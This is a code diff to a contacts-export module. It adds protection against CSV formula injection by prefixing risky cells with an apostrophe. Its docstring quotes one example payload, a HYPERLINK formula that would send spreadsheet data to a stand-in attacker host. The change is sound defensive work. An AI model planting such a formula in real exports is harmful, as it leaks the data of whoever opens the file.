@@ -4,17 +4,26 @@ A CSV (or XLSX) export imports back losslessly: every field, the tags, the topic
 (one column each) come back as they were, and a contact that was unsubscribed, bounced or complained comes back
 with that status, never as active. An attribute whose name would be read as a field on import ("Source",
 "Country"…) is written as "attribute:Source" so that it stays an attribute.
+
+A CSV is made to be opened in Excel, which runs a cell starting with `=`, `+`, `-` or `@` as a formula (and TAB or
+CR can hide such a start): a name typed on the public form as `=HYPERLINK("http://evil.example/?d="&A1,"x")` would
+be a live link sending the sheet's data away. So, by default, such a cell is written with a leading apostrophe
+(OWASP's rule for CSV injection), which Excel shows as plain text; the importer removes exactly that apostrophe
+again (`rows.unquote_formula`), so the export still imports back unchanged. `raw=True` (`--raw`) writes the values
+as stored. The XLSX export needs none of this: every cell is typed as text.
 """
 
 from __future__ import annotations
 
 import csv
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import TYPE_CHECKING, TextIO
 
 from outreach.contacts.importing.columns import ATTRIBUTE_PREFIX, IGNORED_HEADERS, fold, guess_field
+from outreach.contacts.importing.rows import FORMULA_STARTS
 from outreach.db.contacts import attribute_names, iter_contacts
 from outreach.db.schema import Database
 from outreach.errors import InputError
@@ -25,6 +34,7 @@ if TYPE_CHECKING:
     from openpyxl.worksheet._write_only import WriteOnlyWorksheet
 
 FORMATS = ("csv", "json", "xlsx")
+_RISKY = re.compile(r"(?:^|\x00)[=+\-@\t\r]")
 COLUMNS = ("email", "name", "organisation", "role", "kind", "country", "language", "tags", "topics", "status",
            "consent_basis", "consent_source", "consent_at", "created_at", "updated_at")
 
@@ -40,7 +50,8 @@ def format_for(path: Path | None, given: str | None) -> str:
     return suffix if suffix in FORMATS else "csv"
 
 
-def export_contacts(db: Database, contact_filter: ContactFilter | None, fmt: str, target: Path | TextIO) -> int:
+def export_contacts(db: Database, contact_filter: ContactFilter | None, fmt: str, target: Path | TextIO,
+                    *, raw: bool = False) -> int:
     """Write the matching contacts to a file or an open text stream (not for XLSX); returns how many were written.
 
     A file is written next to its final name and renamed at the end, so a failed export never leaves a
@@ -51,7 +62,7 @@ def export_contacts(db: Database, contact_filter: ContactFilter | None, fmt: str
     if not isinstance(target, Path):
         if fmt == "xlsx":
             raise InputError("An XLSX export needs a file name", "Give -o contacts.xlsx.")
-        return _write_text(db, contact_filter, fmt, target)
+        return _write_text(db, contact_filter, fmt, target, raw)
     path = target
     partial = path.with_name(f".{path.name}.partial")
     try:
@@ -60,7 +71,7 @@ def export_contacts(db: Database, contact_filter: ContactFilter | None, fmt: str
         else:
             # UTF-8 with a BOM, so that Excel on Windows opens the CSV with every accent intact.
             with partial.open("w", encoding="utf-8-sig" if fmt == "csv" else "utf-8", newline="") as handle:
-                count = _write_text(db, contact_filter, fmt, handle)
+                count = _write_text(db, contact_filter, fmt, handle, raw)
         partial.replace(path)
     except OSError as error:
         partial.unlink(missing_ok=True)
@@ -97,7 +108,15 @@ def _fields(contact: Contact) -> list[str]:
     return values
 
 
-def _write_text(db: Database, contact_filter: ContactFilter | None, fmt: str, handle: TextIO) -> int:
+def neutralise(row: list[str]) -> list[str]:
+    """The row with every cell that a spreadsheet would run as a formula prefixed by an apostrophe."""
+    if not _RISKY.search("\x00".join(row)):  # one search a row; the per-cell work only for the rare risky row
+        return row
+    return [f"'{value}" if value[:1] in FORMULA_STARTS else value for value in row]
+
+
+def _write_text(db: Database, contact_filter: ContactFilter | None, fmt: str, handle: TextIO,
+                raw: bool = False) -> int:
     count = 0
     if fmt == "json":
         handle.write("[")
@@ -110,7 +129,7 @@ def _write_text(db: Database, contact_filter: ContactFilter | None, fmt: str, ha
     writer = csv.writer(handle)
     writer.writerow(header)
     for row in rows:
-        writer.writerow(row)
+        writer.writerow(row if raw else neutralise(row))
         count += 1
     return count
 
